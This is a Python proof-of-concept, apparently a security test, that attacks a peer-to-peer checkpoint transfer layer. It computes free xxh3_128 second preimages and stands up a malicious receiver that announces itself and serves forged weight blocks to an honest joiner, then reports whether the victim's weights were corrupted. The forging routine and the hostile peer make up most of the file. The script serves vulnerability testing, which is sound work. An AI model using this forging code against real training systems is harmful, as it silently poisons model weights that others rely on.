"""A receiver that others take blocks from forges them: each has the xxh3_128 digest that the honest source announced.

xxh3 with a known seed has second preimages that cost nothing: of the 16 stripes of each KiB twelve can be chosen, the rest is
solved for. The attacker registers as a receiver, forges all blocks, says where it serves them, and waits. The victim is an
honest joiner on a slow link to the honest source. It holds where the attacker was asked, and the victim's state is the
source's to the bit.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import http.server
import json
import logging
import socket
import socketserver
import struct
import sys
import threading
import time
from datetime import timedelta

import numpy as np
import torch
import xxhash

from torchft_ckpt import HTTPTransport

STEP = 7
KIB = 1024
SECRET = bytes.fromhex(  # kSecret of the public XXH3 specification
    "b8fe6c3923a44bbe7c01812cf721ad1cded46de9839097db7240a4a4b7b3671fcb79e64eccc0e578825ad07dccff7221b8084674f743248ee03590e6813a264c"
    "3c2852bb91c300cb88d0658b1b532ea371644897a20df94e3819ef46a9deacd8a8fa763fe39c343ff9dcbbc7c70b4f1d8a51e04bcdb45931c89f7ec9d9787364"
    "eac5ac8334d3ebc3c581a0fffa1363eb170ddd51b7f0da49d316552629d4689e2b16be587d47a1fc8ff8b8d17ad031ce45cb3a8f95160428afd7fbcabb4b407e"
)
MASK_32, MASK_64 = (1 << 32) - 1, (1 << 64) - 1


def forge(block: bytes, seed: int, wanted: bytes) -> bytes:
    """Return bytes with the xxh3_128 of `block` and this seed, equal to `wanted` in 12 of each 16 stripes of 64 bytes.

    The last, partial KiB stays that of `block`.
    """
    words = struct.unpack("<24Q", SECRET)
    keys = [(word + seed if n % 2 == 0 else word - seed) & MASK_64 for n, word in enumerate(words)]
    honest, forged = np.frombuffer(block, "<u8"), np.frombuffer(wanted, "<u8").copy()
    num_full = (len(block) - 1) // KIB
    forged[num_full * 128 :] = honest[num_full * 128 :]
    for at in range(0, num_full * 128, 128):
        true = honest[at : at + 128].reshape(16, 8).tolist()
        false = forged[at : at + 128].reshape(16, 8).tolist()
        for lane in range(8):
            _solve(true, false, lane, keys)
        forged[at : at + 128] = np.array(false, dtype=np.uint64).reshape(-1)
    return forged.tobytes()


def _solve(true: list[list[int]], false: list[list[int]], lane: int, keys: list[int]) -> None:
    """Choose the last four stripes of a lane so that the accumulator gets the same two sums."""
    words, products = 0, 0
    for n in range(16):
        words += true[n][lane]
        products += _product(true[n][lane] ^ keys[n + lane])
    for n in range(12):
        words -= false[n][lane]
        products -= _product(false[n][lane] ^ keys[n + lane])
    target = products & MASK_64
    low_a, high_a = MASK_32, min(target // MASK_32, MASK_32)
    rest = target - low_a * high_a
    low_b, high_b = rest, 1
    if rest > MASK_32:  # at most 2**33
        low_b, high_b = rest // 2, 2
        if rest % 2:
            low_a, high_a = MASK_32 - 1, min(target // (MASK_32 - 1), MASK_32)
            rest = target - low_a * high_a
            low_b, high_b = (rest, 1) if rest <= MASK_32 else (rest // 3, 3)
    a = (low_a | high_a << 32) ^ keys[12 + lane]
    b = (low_b | high_b << 32) ^ keys[13 + lane]
    key_c, key_d = keys[14 + lane], keys[15 + lane]
    left = (words - a - b) & MASK_64
    low = (left - key_d) & MASK_32
    high = ((left - ((key_c >> 32) << 32) - low - (key_d & MASK_32)) >> 32) & MASK_32
    c, d = ((key_c >> 32) << 32) | low, (high << 32) | (key_d & MASK_32)
    false[12][lane], false[13][lane], false[14][lane], false[15][lane] = a, b, c, d


def _product(x: int) -> int:
    return (x & MASK_32) * (x >> 32)


class Throttle(threading.Thread):
    """A TCP proxy that lets so many bytes a second through towards the client: a slow link to an honest source."""

    def __init__(self, port: int, bytes_per_s: float) -> None:
        super().__init__(daemon=True)
        self.target, self.bytes_per_s = port, bytes_per_s
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.lock, self.next = threading.Lock(), time.monotonic()
        self.start()

    def run(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            server = socket.create_connection(("127.0.0.1", self.target))
            threading.Thread(target=self.pump, args=(client, server, False), daemon=True).start()
            threading.Thread(target=self.pump, args=(server, client, True), daemon=True).start()

    def pump(self, source: socket.socket, sink: socket.socket, slow: bool) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(64 * KIB):
                if slow:
                    with self.lock:
                        self.next = max(self.next, time.monotonic()) + len(data) / self.bytes_per_s
                        wait_s = self.next - time.monotonic()
                    time.sleep(max(wait_s, 0.0))
                sink.sendall(data)
        for sock in (source, sink):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)


class Evil:
    """The attacker: an ordinary receiver that serves forged blocks under the snapshot's name."""

    def __init__(self, port: int) -> None:
        self.port = port
        manifest = json.loads(self._ask("manifest?wait_s=5"))
        size, self.snapshot = manifest["block_bytes"], manifest["snapshot"]
        num_blocks = -(-manifest["total_bytes"] // size)
        digest_bytes = len(_digest(b"", 0))
        blocks = [self._ask(f"blocks/{number}-{number}")[:-digest_bytes] for number in range(num_blocks)]
        self.forged = [forge(block, number, bytes(len(block))) for number, block in enumerate(blocks)]
        for number, (false, true) in enumerate(zip(self.forged, blocks, strict=True)):
            if false == true or _digest(false, number) != _digest(true, number):
                raise RuntimeError(f"block {number} was not forged")
        self.asked: set[int] = set()
        evil = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                evil.answer(self)

            def log_message(self, *args: object) -> None:
                pass

        class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
            daemon_threads = True

        self.server = Server(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def announce(self) -> None:
        """Tell the source that all blocks are held, and where."""
        self._ask(
            "peers",
            {
                "X-Ckpt-Address": f"http://127.0.0.1:{self.server.server_address[1]}",
                "X-Ckpt-Received": f"0-{len(self.forged) - 1}",
                "If-Match": f'"{self.snapshot}"',
            },
        )

    def answer(self, request: http.server.BaseHTTPRequestHandler) -> None:
        """Answer a request for blocks with forged ones, each with its digest: the one that the source announced."""
        status, body = 404, b""
        if "/blocks/" in request.path:
            first, last = map(int, request.path.rsplit("/", 1)[1].split("-"))
            status = 200
            body = b"".join(self.forged[block] + _digest(self.forged[block], block) for block in range(first, last + 1))
            self.asked.update(range(first, last + 1))
        request.send_response(status)
        request.send_header("ETag", f'"{self.snapshot}"')
        request.send_header("Content-Length", str(len(body)))
        request.end_headers()
        request.wfile.write(body)

    def _ask(self, what: str, headers: dict[str, str] | None = None) -> bytes:
        connection = http.client.HTTPConnection("127.0.0.1", self.port)
        own = {"Authorization": "Bearer secret", "X-Ckpt-Receiver": "evil", **(headers or {})}
        connection.request("GET", f"/v1/checkpoint/{STEP}/{what}", headers=own)
        answer = connection.getresponse()
        body = answer.read()
        connection.close()
        if answer.status != 200:
            raise RuntimeError(f"{what}: {answer.status} {body[:200]!r}")
        return body


def _digest(block: bytes, number: int) -> bytes:
    return xxhash.xxh3_128_digest(block, seed=number)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--blocks", type=int, default=24, help="blocks of the state")
    parser.add_argument("--block-kib", type=int, default=256, help="KiB of each; 1024 is the size that was first tried")
    arguments = parser.parse_args()
    logging.basicConfig(level=logging.WARNING, format="%(levelname)s %(message)s")
    block_bytes = arguments.block_kib * KIB
    torch.manual_seed(1)
    state = {"w": torch.randn(arguments.blocks * block_bytes // 4)}

    def transport() -> HTTPTransport[dict[str, torch.Tensor]]:
        return HTTPTransport(hostname="127.0.0.1", bind="127.0.0.1", token="secret", block_bytes=block_bytes)

    source, victim = transport(), transport()
    source.send_checkpoint([1, 2], STEP, state, timedelta(seconds=600))
    port = int(source.metadata().rsplit(":", 1)[1])
    evil = Evil(port)
    print(f"{len(evil.forged)} blocks forged, their xxh3_128 digests are the source's")
    evil.announce()
    link = Throttle(port, arguments.blocks * block_bytes / 3.0)
    received = victim.recv_checkpoint(0, f"http://127.0.0.1:{link.port}", STEP, timedelta(seconds=60))
    share = (received["w"] != state["w"]).float().mean().item()
    link.listener.close()
    evil.server.shutdown()
    victim.shutdown()
    source.shutdown()
    asked = f"{len(evil.asked)} of {len(evil.forged)} blocks were asked of the attacker"
    if share:
        print(
            f"VULNERABLE: {100 * share:.1f} % of the victim's weights are not the source's, without an error; {asked}"
        )
        return 1
    if not evil.asked:
        print("VULNERABLE: nothing is known, the attacker was asked for nothing")
        return 1
    print(f"held: the victim's weights are the source's to the bit; {asked}, and did not count")
    return 0


if __name__ == "__main__":
    sys.exit(main())
